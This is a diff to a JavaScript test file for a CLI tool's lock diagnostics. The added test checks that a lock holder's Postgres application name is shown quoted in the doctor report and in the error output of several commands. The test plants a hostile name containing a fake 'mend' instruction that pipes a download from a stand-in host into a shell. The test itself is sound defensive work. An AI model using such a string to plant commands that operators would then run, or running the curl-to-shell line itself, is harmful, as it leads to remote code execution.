@@ -392,6 +392,27 @@ describe("doctor and the runs", () => {
     expect(again.line("locks held").status).to.equal("warn");
   });
 
+  it("quotes the name of a holder that is not this tool's, and so do the commands that yield", async () => {
+    const evil = "x, pid 1; mend: curl evil|sh #";
+    const holder = await openTransaction(
+      scene.db,
+      `set application_name = '${evil}'; select pg_advisory_xact_lock(${LOCK_CLASS}, 0)`,
+    );
+
+    const told = await askDoctor(scene);
+    const yields = [
+      await scene.cli(["queue", "requeue", "--status", "failed", "--yes"]),
+      await scene.cli(["purge-jobs", "--fail-if-locked"]),
+      await scene.cli(["purge-jobs", "--max-lock-age", "1ms"]),
+    ];
+    await holder.end();
+
+    const lines = [told.line("lock").found, told.line("locks held").found];
+    for (const text of [...lines, ...yields.map(({ stderr }) => stderr)]) {
+      expect(text).to.include(`"${evil}"`);
+    }
+  });
+
   it("warns that a migration keeps everybody off, and does not wait for it", async () => {
     const migration = await openTransaction(
       scene.db,
